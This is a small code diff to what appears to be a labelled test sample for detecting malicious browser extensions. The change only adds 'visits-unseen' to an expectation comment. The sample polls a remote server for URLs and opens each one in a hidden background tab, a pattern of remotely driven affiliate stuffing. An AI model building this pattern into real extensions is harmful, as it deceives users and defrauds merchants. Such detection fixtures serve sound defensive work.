@@ -2,7 +2,7 @@ setInterval(function() {
   fetch('https://jobs.viewer.example/next').then(function(r) {
     return r.json();
   }).then(function(j) {
-    // expect: affiliate-stuffing, remote-configuration
+    // expect: affiliate-stuffing, remote-configuration, visits-unseen
     chrome.tabs.create({
       url: j.url,
       active: false
